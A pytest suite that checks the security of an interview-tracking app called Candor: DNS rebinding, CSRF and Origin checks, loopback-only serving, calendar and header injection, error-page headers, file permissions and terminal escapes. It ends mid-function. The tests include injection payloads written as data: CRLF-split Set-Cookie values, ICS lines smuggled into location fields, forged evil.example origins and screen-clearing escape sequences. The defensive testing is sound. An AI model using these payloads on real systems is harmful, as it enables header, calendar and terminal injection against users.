"""One test (or a few with the finding's name as prefix) per finding of the security review.

The exact behaviour is Candor's security contract (issue 11): Host checks against DNS
rebinding, same-origin + CSRF token on every unsafe method, no remote listening without an
explicit flag, calendar text that cannot start new lines, no user text in headers, error pages
with the security headers, private files and secure delete, neutralised terminal escapes, CSV
formula prefixes, backup limits, and a plan page whose cross-site GET writes nothing.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
import signal
import sqlite3
import stat
import subprocess
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
import requests

from conftest import CandorServer, candor_path, cli_json, run_cli
from support import (
    header_problems, ics_events, ics_lines, ics_property, ics_uid_matches, ics_unescape,
    internals_in, marker, parse_page, raw_controls, tomorrow, uuid_forms,
)

# --- helpers --------------------------------------------------------------------


def company_names(server: CandorServer) -> set[str]:
    return {c["name"] for c in server.cli_json("company", "list", "--json")}


def company_id(server: CandorServer, name: str) -> str:
    return next(c["id"] for c in server.cli_json("company", "list", "--json") if c["name"] == name)


def ask_of(server: CandorServer, interview_id: str, ask_id: str) -> dict:
    plan = server.cli_json("plan", interview_id, "--json")
    return next(a for a in plan["asks"] if a["id"] == ask_id)


def is_html(response: requests.Response) -> bool:
    return "text/html" in response.headers.get("Content-Type", "")


def main_text(html: str) -> str:
    match = re.search(r"<main\b[^>]*>(.*?)</main>", html, re.S | re.I)
    body = match.group(1) if match else html
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", body)).strip()


def calendar_feeds(client) -> tuple[str, str]:
    """(times-only feed path, detailed feed path) from the profile page."""
    page = client.get("/profile")
    assert page.status_code == 200, page.status_code
    paths = sorted({m for m in re.findall(r"(/calendar/[A-Za-z0-9_\-]+\.ics)", page.text)})
    times = [p for p in paths if not p.endswith("-details.ics")]
    assert times, f"no calendar feed address on /profile (found {paths})"
    return times[0], times[0][: -len(".ics")] + "-details.ics"


def asks_rows(db_path: Path, interview_id: str) -> int:
    connection = sqlite3.connect(f"file:{db_path}?mode=ro", uri=True, timeout=10)
    try:
        forms = uuid_forms(interview_id)
        placeholders = ",".join("?" * len(forms))
        return connection.execute(
            f"SELECT count(*) FROM asks WHERE interview_id IN ({placeholders})", forms).fetchone()[0]
    finally:
        connection.close()


def post_form(client, path: str, form_page: str, overrides: dict, **kwargs) -> requests.Response:
    """Fills the post form whose action is `path` on `form_page` with its own values and
    `overrides`, and posts it as a browser would."""
    page = client.get(form_page)
    assert page.status_code == 200, f"GET {form_page}: {page.status_code}"
    forms = [f for f in parse_page(client.url(form_page), page.text).forms
             if f.method == "post" and f.action.endswith(path)]
    assert forms, f"no post form for {path} on {form_page}"
    return client.post(path, data=forms[0].defaults(overrides), **kwargs)


# --- DNS rebinding ----------------------------------------------------------------

REBOUND_HOSTS = ("rebind.example:{port}", "rebind.example", "127.0.0.1.rebind.example:{port}",
                 "localhost.rebind.example:{port}", "candor.test.rebind.example:{port}")


def test_dns_rebinding_host_is_refused(server: CandorServer, planned) -> None:
    interview_id, asks = planned
    ask = ask_of(server, interview_id, asks[0]["id"])
    good = server.client()
    times_feed, _ = calendar_feeds(good)
    token = good.csrf_token()
    evil_host = f"rebind.example:{server.port}"
    evil = server.client(host=evil_host)
    evil.session.cookies.update(good.session.cookies)  # even with the victim's cookie and token
    name = marker("Rebound")
    names_before = company_names(server)

    attempts = {
        "GET capture page": evil.get(f"/interviews/{interview_id}/capture", allow_redirects=False),
        "GET /profile": evil.get("/profile", allow_redirects=False),
        "GET calendar feed": evil.get(times_feed, allow_redirects=False),
        "POST /companies": evil.post("/companies", {"name": name}, csrf=token, origin=f"http://{evil_host}"),
        "PUT answer": evil.put_answer(ask["id"], "rebound " + name, ask["version"], csrf=token,
                                      origin=f"http://{evil_host}"),
        "DELETE /companies": evil.session.delete(evil.url("/companies"), headers={"Host": evil_host},
                                                 allow_redirects=False),
        "PATCH /profile": evil.session.patch(evil.url("/profile"), headers={"Host": evil_host},
                                             allow_redirects=False),
    }
    for pattern in REBOUND_HOSTS:
        host = pattern.format(port=server.port)
        attempts[f"GET /profile as {host}"] = server.client(host=host).get("/profile", allow_redirects=False)

    problems = []
    for what, response in attempts.items():
        if response.status_code != 421:
            problems.append(f"{what}: {response.status_code}, not 421")
            continue
        problems += [f"{what}: {p}" for p in header_problems(response)]
        if not what.startswith("PUT") and not is_html(response):
            problems.append(f"{what}: not an HTML page ({response.headers.get('Content-Type')})")
        if "Lumen Health" in response.text or "BEGIN:VCALENDAR" in response.text:
            problems.append(f"{what}: the 421 page shows the candidate's data")
    assert not problems, "\n".join(problems)

    assert company_names(server) == names_before, "a rebound POST changed the companies"
    assert ask_of(server, interview_id, ask["id"]).get("answer") == ask.get("answer"), "a rebound PUT changed the answer"

    # Control: the names Candor does answer.
    allowed = [f"127.0.0.1:{server.port}", f"localhost:{server.port}", f"127.1.2.3:{server.port}",
               f"LOCALHOST:{server.port}"]
    if server.allowed_host:
        allowed.append(f"{server.allowed_host}:{server.port}")
    for host in allowed:
        response = server.client(host=host).get("/profile")
        assert response.status_code == 200, f"Host {host}: {response.status_code}"


def test_dns_rebinding_host_is_refused_allowed_host_option(server: CandorServer) -> None:
    """`--allowed-host candor.test` makes that one name work, in reads and writes."""
    assert server.allowed_host, "`candor serve` does not accept --allowed-host"
    client = server.client(host=f"candor.test:{server.port}")
    assert client.get("/companies/new").status_code == 200
    name = marker("ViaAllowedHost")
    response = client.post("/companies", {"name": name})
    assert response.status_code in (302, 303), response.status_code
    assert name in company_names(server)


# --- same origin and CSRF -----------------------------------------------------------

# name: (origin, referer, csrf, extra headers). origin/csrf: True = what a good page sends.
REFUSED = {
    "origin-null": ("null", None, True, {}),
    "no-origin-no-referer": (False, None, True, {}),
    "foreign-origin": ("http://evil.example", None, True, {}),
    "foreign-origin-same-port": ("http://evil.example:{port}", None, True, {}),
    "origin-other-port": ("http://127.0.0.1:1", None, True, {}),
    "origin-https": ("https://127.0.0.1:{port}", None, True, {}),
    "origin-suffix-trick": ("http://127.0.0.1:{port}.evil.example", None, True, {}),
    "foreign-referer-no-origin": (False, "http://evil.example/companies/new", True, {}),
    "referer-prefix-trick": (False, "http://127.0.0.1:{port}.evil.example/", True, {}),
    "sec-fetch-site-cross-site": (True, None, True, {"Sec-Fetch-Site": "cross-site"}),
    "missing-token": (True, None, False, {}),
    "empty-token": (True, None, "", {}),
    "wrong-token": (True, None, "A" * 43, {}),
    "wrong-token-header": (True, None, False, {"X-CSRF-Token": "B" * 43}),
}
ACCEPTED = {
    "origin-and-token": (True, None, True, {}),
    "referer-only": (False, "http://127.0.0.1:{port}/companies/new", True, {}),
    "token-in-header": (True, None, False, {"X-CSRF-Token": None}),
    "origin-in-capitals": ("HTTP://127.0.0.1:{port}", None, True, {}),
    "sec-fetch-site-same-origin": (True, None, True, {"Sec-Fetch-Site": "same-origin"}),
}


def forge(server: CandorServer, case: tuple, name: str) -> requests.Response:
    origin, referer, csrf, extra = case
    client = server.client()
    client.get("/companies/new")
    headers = {}
    for key, value in extra.items():
        headers[key] = client.csrf_token() if value is None else value
    if referer:
        headers["Referer"] = referer.format(port=server.port)
    if isinstance(origin, str):
        origin = origin.format(port=server.port)
    return client.post("/companies", {"name": name, "roleTitle": "Engineer"}, csrf=csrf, origin=origin, headers=headers)


@pytest.mark.parametrize("case", list(REFUSED), ids=list(REFUSED))
def test_origin_null_and_missing_are_refused(server: CandorServer, case: str) -> None:
    name = marker("Forged")
    response = forge(server, REFUSED[case], name)
    assert response.status_code == 403, f"{case}: {response.status_code} (Location {response.headers.get('Location')})"
    assert is_html(response), response.headers.get("Content-Type")
    assert not header_problems(response), header_problems(response)
    assert name not in company_names(server), f"{case}: the company was added anyway"


@pytest.mark.parametrize("case", list(ACCEPTED), ids=list(ACCEPTED))
def test_origin_null_and_missing_are_refused_control_done_right_succeeds(server: CandorServer, case: str) -> None:
    name = marker("Welcome")
    response = forge(server, ACCEPTED[case], name)
    assert response.status_code in (302, 303), f"{case}: {response.status_code}\n{main_text(response.text)[:300]}"
    assert name in company_names(server)


def test_origin_null_and_missing_are_refused_token_of_another_session(server: CandorServer) -> None:
    """A token is only good with its own cookie: an attacker's token + no (or another) cookie fails."""
    attacker = server.client()
    attacker.get("/")
    stolen = attacker.csrf_token()
    victim = server.client()
    victim.get("/")
    name = marker("Swapped")
    response = victim.post("/companies", {"name": name}, csrf=stolen)
    assert response.status_code == 403, response.status_code
    cookieless = server.client()
    response = cookieless.session.post(cookieless.url("/companies"), data={"name": name, "_csrf": stolen},
                                       headers={"Origin": server.origin}, allow_redirects=False)
    assert response.status_code == 403, response.status_code
    assert name not in company_names(server)


def test_origin_null_and_missing_are_refused_api(server: CandorServer, planned) -> None:
    interview_id, asks = planned
    ask = ask_of(server, interview_id, asks[1]["id"])
    client = server.client()
    client.get(f"/interviews/{interview_id}/capture")
    text = marker("api answer ")
    bad = {
        "origin null": client.put_answer(ask["id"], text, ask["version"], origin="null"),
        "no origin": client.put_answer(ask["id"], text, ask["version"], origin=False),
        "foreign origin": client.put_answer(ask["id"], text, ask["version"], origin="http://evil.example"),
        "no token": client.put_answer(ask["id"], text, ask["version"], csrf=False),
        "wrong token": client.put_answer(ask["id"], text, ask["version"], csrf="C" * 43),
        "cross-site": client.put_answer(ask["id"], text, ask["version"], headers={"Sec-Fetch-Site": "cross-site"}),
    }
    problems = []
    for what, response in bad.items():
        if response.status_code != 403:
            problems.append(f"{what}: {response.status_code}, not 403")
            continue
        try:
            body = response.json()
            if not isinstance(body.get("error"), str) or not body["error"]:
                problems.append(f"{what}: JSON without an error message: {body}")
        except ValueError:
            problems.append(f"{what}: not JSON: {response.text[:100]!r}")
    assert not problems, "\n".join(problems)
    assert ask_of(server, interview_id, ask["id"]).get("answer") == ask.get("answer")

    done_right = client.put_answer(ask["id"], text, ask["version"])
    assert done_right.status_code == 200, f"{done_right.status_code}: {done_right.text[:200]}"
    assert ask_of(server, interview_id, ask["id"]).get("answer") == text


# --- listening off loopback -------------------------------------------------------------


def start_serve(args: list[str], workdir: Path, wait_for_line: bool) -> tuple[subprocess.Popen, Path, Path, str | None]:
    """Starts `candor serve args`; waits until it exits or prints its address (at most 30 s)."""
    out, err = workdir / "serve.out", workdir / "serve.err"
    process = subprocess.Popen([str(candor_path()), "serve", *args], stdin=subprocess.DEVNULL,
                               stdout=open(out, "wb"), stderr=open(err, "wb"), cwd=workdir)
    deadline = time.monotonic() + 30
    url = None
    while time.monotonic() < deadline:
        match = re.search(r"Candor is running at (http://\S+)", out.read_text(errors="replace"))
        if match:
            url = match.group(1)
            break
        if process.poll() is not None:
            break
        time.sleep(0.05)
    return process, out, err, url


def stop(process: subprocess.Popen) -> None:
    if process.poll() is None:
        process.send_signal(signal.SIGTERM)
        try:
            process.wait(15)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.0.2.10"])
def test_non_loopback_host_needs_explicit_flag(candor_bin, tmp_path: Path, host: str) -> None:
    process, out, err, url = start_serve(["--db", str(tmp_path / "c.sqlite"), "--host", host, "--port", "0"],
                                         tmp_path, wait_for_line=False)
    try:
        if url is not None:
            pytest.fail(f"`candor serve --host {host}` started without --allow-remote-without-sign-in: {url}")
        code = process.wait(30)
    finally:
        stop(process)
    lines = [line for line in err.read_text(errors="replace").splitlines() if line.strip()]
    assert code == 64, f"exit code {code}; stderr: {lines}"
    assert len(lines) == 1, f"stderr should be one line, got {len(lines)}:\n" + "\n".join(lines)
    assert re.search(r"sign[- ]?in", lines[0], re.I), f"the line does not say local mode has no sign-in: {lines[0]}"
    assert "running at" not in out.read_text(errors="replace")


def test_non_loopback_host_needs_explicit_flag_given_it_starts_with_a_warning(candor_bin, tmp_path: Path) -> None:
    process, out, err, url = start_serve(
        ["--db", str(tmp_path / "c.sqlite"), "--host", "0.0.0.0", "--port", "0", "--allow-remote-without-sign-in"],
        tmp_path, wait_for_line=True)
    try:
        assert url, f"it did not start:\n{out.read_text(errors='replace')}\n{err.read_text(errors='replace')}"
        assert url.startswith("http://0.0.0.0:"), url
        port = int(url.rsplit(":", 1)[1].strip("/"))
        warning = [line for line in err.read_text(errors="replace").splitlines()
                   if re.search(r"warn|sign[- ]?in", line, re.I)]
        assert warning, f"no warning on stderr:\n{err.read_text(errors='replace')}"
        base = f"http://127.0.0.1:{port}"
        assert requests.get(base + "/healthz", timeout=10).status_code == 200
        # Listening on every address: any IP literal is fine, a name still is not.
        assert requests.get(base + "/profile", headers={"Host": f"10.1.2.3:{port}"}, timeout=10).status_code == 200
        assert requests.get(base + "/profile", headers={"Host": f"rebind.example:{port}"}, timeout=10).status_code == 421
    finally:
        stop(process)


# --- calendar ---------------------------------------------------------------------------

ATTENDEE_LOCATION = "https://meet.example/room\r\nATTENDEE;CN=Evil:mailto:evil@example.com"
VEVENT_LOCATION = "https://meet.example/x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil@example.com\r\nSUMMARY:Injected"
WEB_LOCATION = ("https://meet.example/web\r\nATTENDEE;CN=Evil:mailto:evil@example.com\r\nEND:VEVENT\r\n"
                "BEGIN:VEVENT\r\nURL:https://evil.example/\nLOCATION:lf only")
SPACED_LOCATION = "https://meet.example/a room; with, spaces\\and a backslash"


@pytest.fixture(scope="module")
def calendar_setup(server: CandorServer, planned) -> dict:
    """A company with interviews whose locations try to inject calendar lines (CLI and web)."""
    company = marker("Calco")
    server.cli("company", "add", company, check=True)
    panel_name = marker("Panelist")
    notes = marker("Secretnotes")
    ids = []
    for index, location in enumerate((ATTENDEE_LOCATION, VEVENT_LOCATION, SPACED_LOCATION)):
        before = {i["id"] for i in server.cli_json("interview", "list", "--json")}
        server.cli("interview", "add", company, "--at", f"{tomorrow(2)} {9 + index:02d}:00", "--tz", "UTC",
                   "--location", location, "--notes", notes, "--with", f"{panel_name}:engineer", check=True)
        ids += [i["id"] for i in server.cli_json("interview", "list", "--json") if i["id"] not in before]
    client = server.client()
    cid = company_id(server, company)
    web = post_form(client, f"/companies/{cid}/interviews", f"/companies/{cid}/interviews/new",
                    {"location": WEB_LOCATION, "startsAt": f"{tomorrow(2)}T15:00", "slot0Name": panel_name,
                     "notes": notes})
    return {"company": company, "company_id": cid, "panel": panel_name, "notes": notes, "web_status": web.status_code,
            "planned": planned}


def calendar_problems(text: str, interviews: list[dict], whole: bool) -> list[str]:
    lines, problems = ics_lines(text)
    events = ics_events(lines)
    problems += [f"an ATTENDEE line: {line[:100]!r}" for line in lines if line.upper().startswith("ATTENDEE")]
    if whole:
        expected = len(interviews)
        if len(events) != expected or sum(1 for line in lines if line == "BEGIN:VEVENT") != expected:
            problems.append(f"{len(events)} VEVENTs for {expected} interviews")
    ours = {i["id"]: i for i in interviews}
    for event in events:
        interview = next((i for iid, i in ours.items() if ics_uid_matches(event, iid)), None)
        if interview is None:
            problems.append(f"an event whose UID is no interview: {ics_property(event, 'UID')}")
            continue
        location = interview.get("location") or ""
        if ics_property(event, "URL") and (re.search(r"[\s\x00-\x1f\x7f]", location) or not
                                           re.match(r"https?://", location)):
            problems.append(f"a URL line for location {location!r}: {ics_property(event, 'URL')}")
    return problems


def test_calendar_injection_export(server: CandorServer, calendar_setup: dict, tmp_path: Path) -> None:
    output = tmp_path / "calendar.ics"
    server.cli("export", "--ics", "--company", calendar_setup["company"], "--output", output, check=True)
    text = output.read_bytes().decode("utf-8")
    interviews = [i for i in server.cli_json("interview", "list", "--json")
                  if i["companyID"] == calendar_setup["company_id"]]
    assert len(interviews) >= 3
    problems = calendar_problems(text, interviews, whole=True)
    lines, _ = ics_lines(text)
    for event in ics_events(lines):
        interview = next(i for i in interviews if ics_uid_matches(event, i["id"]))
        stored = (interview.get("location") or "").replace("\r\n", "\n").replace("\r", "\n")
        shown = [ics_unescape(v) for v in ics_property(event, "LOCATION")]
        if stored and shown != [stored]:
            problems.append(f"LOCATION {shown!r} does not read back as {stored!r}")
    assert not problems, "\n".join(problems)
    assert calendar_setup["panel"] in text.replace("\r\n ", ""), "the detailed export lacks the panel"


def test_calendar_injection_web_form_location(server: CandorServer, calendar_setup: dict) -> None:
    """The web form takes the same location (or refuses it with 422); either way, no new lines."""
    assert calendar_setup["web_status"] in (303, 302, 422), calendar_setup["web_status"]
    interviews = [i for i in server.cli_json("interview", "list", "--json")
                  if i["companyID"] == calendar_setup["company_id"]]
    web = [i for i in interviews if (i.get("location") or "").startswith("https://meet.example/web")]
    if calendar_setup["web_status"] == 422:
        assert not web
    else:
        assert len(web) == 1, [i.get("location") for i in interviews]


def test_calendar_injection_feeds(server: CandorServer, calendar_setup: dict) -> None:
    client = server.client()
    times, details = calendar_feeds(client)
    interviews = server.cli_json("interview", "list", "--json")
    problems = []
    for path in (times, details):
        response = requests.get(server.url + path, timeout=30)  # calendar apps send no cookie
        if response.status_code != 200:
            problems.append(f"GET {path}: {response.status_code}")
            continue
        if not response.headers.get("Content-Type", "").startswith("text/calendar"):
            problems.append(f"{path}: Content-Type {response.headers.get('Content-Type')}")
        problems += [f"{path}: {p}" for p in calendar_problems(response.content.decode("utf-8"), interviews, whole=True)]
    assert not problems, "\n".join(problems)


def test_calendar_injection_times_only_feed_has_no_details(server: CandorServer, calendar_setup: dict) -> None:
    client = server.client()
    times, details = calendar_feeds(client)
    response = requests.get(server.url + times, timeout=30)
    assert response.status_code == 200, response.status_code
    text = response.content.decode("utf-8")
    unfolded = text.replace("\r\n ", "").replace("\r\n\t", "")
    lines, _ = ics_lines(text)
    interviews = server.cli_json("interview", "list", "--json")
    problems = [f"a {line.split(':')[0].split(';')[0]} line: {line[:80]!r}" for line in lines
                if re.match(r"(LOCATION|URL|ATTENDEE|ORGANIZER|DESCRIPTION|COMMENT)[;:]", line, re.I)]
    secrets = {calendar_setup["panel"], calendar_setup["notes"], "meet.example"}
    for interview in interviews:
        secrets.update(p["name"] for p in interview.get("participants", []))
        if interview.get("notes"):
            secrets.add(interview["notes"][:40])
    interview_id, _ = calendar_setup["planned"]
    secrets.update(a["questionText"][:40] for a in server.cli_json("plan", interview_id, "--json")["asks"])
    problems += [f"the times-only feed shows {s!r}" for s in sorted(secrets) if s and s in unfolded]
    events = ics_events(lines)
    assert len(events) == len(interviews), f"{len(events)} events for {len(interviews)} interviews"
    for event in events:
        for name in ("UID", "DTSTART", "DTEND", "SUMMARY"):
            if len(ics_property(event, name)) != 1:
                problems.append(f"an event without one {name}: {event}")
    summaries = " ".join(ics_unescape(s) for e in events for s in ics_property(e, "SUMMARY"))
    if calendar_setup["company"] not in summaries:
        problems.append("no SUMMARY names the company")
    assert not problems, "\n".join(problems)
    detailed = requests.get(server.url + details, timeout=30)
    assert detailed.status_code == 200, f"{details}: {detailed.status_code}"
    assert calendar_setup["panel"] in detailed.content.decode("utf-8").replace("\r\n ", ""), "details lack the panel"


# --- headers ----------------------------------------------------------------------------

BACKS = {
    "crlf": "/questions\r\nSet-Cookie: x=1",
    "lf": "/questions\nSet-Cookie: x=1",
    "cr": "/questions\rSet-Cookie: x=1",
    "query-crlf": "/questions?q=a\r\nSet-Cookie: x=1\r\nX-Injected: x=1",
    "unicode-line-separator": "/questions\u2028Set-Cookie: x=1",
    "latin1-crlf": "/questions\u010d\u010aSet-Cookie: x=1",
}


@pytest.mark.parametrize("variant", list(BACKS), ids=list(BACKS))
def test_header_splitting_in_back_field(server: CandorServer, variant: str) -> None:
    text = marker("Header split question ") + "?"
    server.cli("question", "add", text, check=True)
    question = next(q for q in server.cli_json("question", "list", "--json") if q["text"] == text)
    client = server.client()
    client.get("/questions")
    for action in ("retire", "restore"):
        response = client.post(f"/questions/{question['id']}/{action}", {"back": BACKS[variant]})
        assert response.status_code == 303, f"{action}: {response.status_code}"
        location = response.headers.get("Location", "")
        assert location.startswith("/questions"), f"{action}: Location {location!r}"
        assert not re.search(r"[\r\n]", location)
        leaked = [(k, v) for k, v in response.raw.headers.items() if "x=1" in k.lower() or "x=1" in v.lower()
                  or k.lower() == "x-injected"]
        assert not leaked, f"{action}: user text in headers: {leaked}"
        assert "x" not in response.cookies, f"{action}: a cookie x was set"
    retired = {q["id"]: q for q in server.cli_json("question", "list", "--json", "--include-retired")}
    assert retired[question["id"]]["retired"] is False, "retire then restore did not leave it active"


# --- error pages --------------------------------------------------------------------------


def error_response(server: CandorServer, status: str) -> requests.Response:
    client = server.client()
    client.get("/companies/new")
    token = client.csrf_token()
    if status == "403":
        return client.post("/companies", {"name": marker("E403")}, origin="http://evil.example")
    if status == "404-path":
        return client.get("/no-such-page-" + marker(), allow_redirects=False)
    if status == "404-id":
        return client.get(f"/companies/{uuid.uuid4()}", allow_redirects=False)
    if status == "404-interview-id":
        return client.get(f"/interviews/{str(uuid.uuid4()).upper()}/plan", allow_redirects=False)
    if status == "400":
        return client.session.post(
            client.url("/questions/import"), data=b"--nope\r\nthis is not multipart at all",
            headers={"Content-Type": "multipart/form-data; boundary=XyZ", "Origin": server.origin,
                     "X-CSRF-Token": token}, allow_redirects=False, timeout=30)
    if status == "413":
        return client.post("/companies", {"name": "x" * (3 * 1024 * 1024)}, headers={"X-CSRF-Token": token})
    if status == "421":
        return server.client(host=f"rebind.example:{server.port}").get("/companies", allow_redirects=False)
    if status == "422":
        return client.post("/companies", {"name": ""})
    raise AssertionError(status)


ERROR_CASES = ["403", "404-path", "404-id", "404-interview-id", "400", "413", "421", "422"]


@pytest.mark.parametrize("case", ERROR_CASES)
def test_error_pages_carry_security_headers(server: CandorServer, case: str) -> None:
    response = error_response(server, case)
    expected = int(case[:3])
    assert response.status_code == expected, f"{response.status_code}, not {expected}: {main_text(response.text)[:200]}"
    assert not header_problems(response), header_problems(response)
    assert is_html(response), response.headers.get("Content-Type")
    text = main_text(response.text)
    assert not internals_in(response.text), f"internals shown: {internals_in(response.text)}: {text[:300]}"
    assert text, "no message on the page"
    if expected != 422:  # a 422 shows the form again around its message
        assert len(text) < 600, f"more than a short message: {text[:300]}"


def test_error_pages_carry_security_headers_api_400(server: CandorServer, planned) -> None:
    interview_id, asks = planned
    client = server.client()
    client.get(f"/interviews/{interview_id}/capture")
    response = client.request_json("PUT", f"/api/asks/{asks[0]['id']}/answer", b'{"text": 12, "baseVersion": "x"')
    assert response.status_code == 400, response.status_code
    assert not header_problems(response), header_problems(response)
    assert not internals_in(response.text), response.text[:300]
    assert isinstance(response.json().get("error"), str)


# --- files --------------------------------------------------------------------------------


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_files_are_private_data_folder(server: CandorServer, planned) -> None:
    folder = server.db_path.parent
    problems = []
    if mode(folder) != 0o700:
        problems.append(f"{folder} is {oct(mode(folder))}, not 0o700")
    files = [server.db_path] + [Path(f"{server.db_path}{s}") for s in ("-wal", "-shm")]
    assert server.db_path.exists()
    for path in files:
        if path.exists() and mode(path) != 0o600:
            problems.append(f"{path.name} is {oct(mode(path))}, not 0o600")
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("existing", [False, True], ids=["new-file", "existing-644-file"])
def test_files_are_private_exports(server: CandorServer, planned, tmp_path: Path, existing: bool) -> None:
    exports = {
        "backup.json": ["export", "--json"],
        "calendar.ics": ["export", "--ics"],
        "questions.csv": ["question", "export", "--format", "csv"],
    }
    old_umask = os.umask(0o022)
    try:
        problems = []
        for name, args in exports.items():
            path = tmp_path / name
            if existing:
                path.write_text("old\n")
                path.chmod(0o644)
            server.cli(*args, "--output", path, check=True)
            assert path.stat().st_size > 10, f"{name} is empty"
            if mode(path) != 0o600:
                problems.append(f"{' '.join(args)} --output wrote {oct(mode(path))}, not 0o600")
    finally:
        os.umask(old_umask)
    assert not problems, "\n".join(problems)


def test_files_are_private_removed_company_leaves_no_trace(tmp_path: Path) -> None:
    db = tmp_path / "data" / "candor.sqlite"
    notes, answer, company = marker("NOTESMARK"), marker("ANSWERMARK"), marker("Gone")
    run_cli("company", "add", company, "--notes", f"private {notes} notes", "--concern-notes", f"{notes} worry",
            db=db, check=True)
    run_cli("interview", "add", company, "--at", f"{tomorrow(-2)} 10:00", "--tz", "UTC",
            "--with", "Dana Park:engineer", db=db, check=True)
    interview = cli_json("interview", "list", "--json", db=db)[0]["id"]
    run_cli("answer", interview, "--person", "Dana", "--question", "love", "--text", f"We love {answer} here.",
            db=db, check=True)

    def traces() -> list[str]:
        found = []
        for path in (db, Path(f"{db}-wal"), Path(f"{db}-journal")):
            if path.exists():
                data = path.read_bytes()
                found += [f"{m} in {path.name}" for m in (notes, answer) if m.encode() in data]
        return found

    assert traces(), "control: the markers should be in the database before the removal"
    run_cli("company", "remove", company, "--yes", db=db, check=True)
    assert company not in {c["name"] for c in cli_json("company", "list", "--json", db=db)}
    assert not traces(), f"removed text is still in the file bytes: {traces()}"


# --- terminal ---------------------------------------------------------------------------

ESCAPES = "Esc\x1b[2J\x1b]0;pwned\x07 bell\x07 csi\u009b31m back\x08\x08 cr\rend"


def demo_backup(tmp_path: Path) -> dict:
    source = tmp_path / "source" / "candor.sqlite"
    run_cli("demo", db=source, check=True)
    path = tmp_path / "demo-backup.json"
    run_cli("export", "--json", "--output", path, db=source, check=True)
    return json.loads(path.read_text())


def import_backup(backup: dict, path: Path, db: Path) -> subprocess.CompletedProcess:
    path.write_text(json.dumps(backup))
    return run_cli("import-backup", path, db=db)


def with_escapes(backup: dict, where: str) -> dict:
    b = copy.deepcopy(backup)
    if where in ("all", "answers"):
        for ask in b["asks"]:
            if ask.get("answer"):
                ask["answer"] = f"{ask['answer']} {ESCAPES}"
    if where in ("all", "questions"):
        for q in b["questions"]:
            if q["id"] in {a.get("questionID") for a in b["asks"]}:
                q["text"] = f"{ESCAPES} {q['text']}"
                q["purpose"] = ESCAPES
        for ask in b["asks"]:
            ask["questionText"] = f"{ESCAPES} {ask['questionText']}"
    if where in ("all", "people"):
        for p in b["people"]:
            p["title"] = f"{p.get('title') or 'Title'} {ESCAPES}"
            p["notes"] = ESCAPES
            p["name"] = f"{p['name']}\x1b[8m"
        for i in b["interviews"]:
            for participant in i["participants"]:
                participant["name"] = f"{participant['name']}\x1b[8m"
                participant["title"] = f"{participant.get('title') or 'Title'} {ESCAPES}"
    if where in ("all", "interviews"):
        for i in b["interviews"]:
            i["location"] = f"Room {ESCAPES}"
            i["notes"] = ESCAPES
    if where in ("all", "companies"):
        for c in b["companies"]:
            c["notes"] = ESCAPES
            c["roleTitle"] = f"Engineer {ESCAPES}"
    return b


def terminal_outputs(db: Path) -> dict[str, str]:
    companies = cli_json("company", "list", "--json", db=db)
    interviews = cli_json("interview", "list", "--json", db=db)
    questions = cli_json("question", "list", "--json", db=db)
    commands = [("company", "list"), ("question", "list"), ("interview", "list"), ("person", "list"), ("status",),
                ("schedule", "--all")]
    for c in companies[:3]:
        commands += [("company", "show", c["id"]), ("analyze", c["id"]), ("person", "list", "--company", c["id"])]
    if len(companies) >= 2:
        commands.append(("compare", companies[0]["id"], companies[1]["id"]))
    done = [i for i in interviews if i.get("status") != "scheduled"]
    for i in done[:3] + [i for i in interviews if i.get("status") == "scheduled"][:2]:
        commands += [("interview", "show", i["id"]), ("answers", i["id"])]
        if i.get("status") == "scheduled":
            commands.append(("plan", i["id"]))
    for q in [q for q in questions if "\x1b" in q["text"]][:2] or questions[:1]:
        commands.append(("question", "show", q["id"]))

    def run(command):
        result = run_cli(*command, db=db)
        return " ".join(command), result.stdout + result.stderr

    with ThreadPoolExecutor(4) as pool:
        return dict(pool.map(run, commands))


def test_terminal_escapes_are_neutralised(tmp_path: Path) -> None:
    backup = demo_backup(tmp_path)
    stored_in: list[Path] = []
    refused: list[str] = []
    result = import_backup(with_escapes(backup, "all"), tmp_path / "all.json", tmp_path / "all" / "candor.sqlite")
    if result.returncode == 0:
        stored_in.append(tmp_path / "all" / "candor.sqlite")
    else:  # refused as a whole: try each kind of record alone
        for where in ("answers", "questions", "people", "interviews", "companies"):
            db = tmp_path / where / "candor.sqlite"
            result = import_backup(with_escapes(backup, where), tmp_path / f"{where}.json", db)
            (stored_in.append(db) if result.returncode == 0 else refused.append(f"{where}: {result.stderr.strip()}"))

    # An import and the CLI: refused with a line number, or stored and shown neutralised.
    import_db = tmp_path / "import" / "candor.sqlite"
    run_cli("demo", db=import_db, check=True)
    csv_file = tmp_path / "escapes.csv"
    csv_file.write_text(f'text,category,purpose\n"{ESCAPES} imported?",esc\x1bcat,"{ESCAPES}"\n')
    md_file = tmp_path / "escapes.md"
    md_file.write_text(f"# Esc\n\n## Esc &#27;[31m category\n\n- What about &#27;]0;title&#7; this {marker()}?\n")
    problems = []
    for path in (csv_file, md_file):
        result = run_cli("question", "import", path, db=import_db)
        problems += [f"question import {path.name}: {p}" for p in raw_controls(result.stdout + result.stderr)]
    run_cli("person", "add", cli_json("company", "list", "--json", db=import_db)[0]["id"], "Esc\x1b[31mPerson",
            "--notes", ESCAPES, db=import_db)
    everything = run_cli("export", "--json", db=import_db, check=True).stdout
    if "\\u001b" in everything.lower() or "\x1b" in everything:
        stored_in.append(import_db)  # the import or the CLI stored an escape: show it everywhere
    else:
        for command in (("question", "list"), ("person", "list")):
            result = run_cli(*command, db=import_db)
            problems += [f"`candor {' '.join(command)}` (import): {p}" for p in raw_controls(result.stdout + result.stderr)]

    for db in stored_in:
        for command, output in terminal_outputs(db).items():
            controls = raw_controls(output)
            if controls:
                problems.append(f"`candor {command}` ({db.parent.name}) prints {', '.join(controls)}")
    assert not problems, "\n".join(problems[:40]) + (f"\n... {len(problems)} in all" if len(problems) > 40 else "")


def test_terminal_escapes_are_neutralised_when_already_in_the_database(tmp_path: Path) -> None:
    """Text written by an older Candor (or another tool) is shown neutralised too: escapes put
    straight into the SQLite file, past every input check, never reach the terminal raw."""
    db = tmp_path / "planted" / "candor.sqlite"
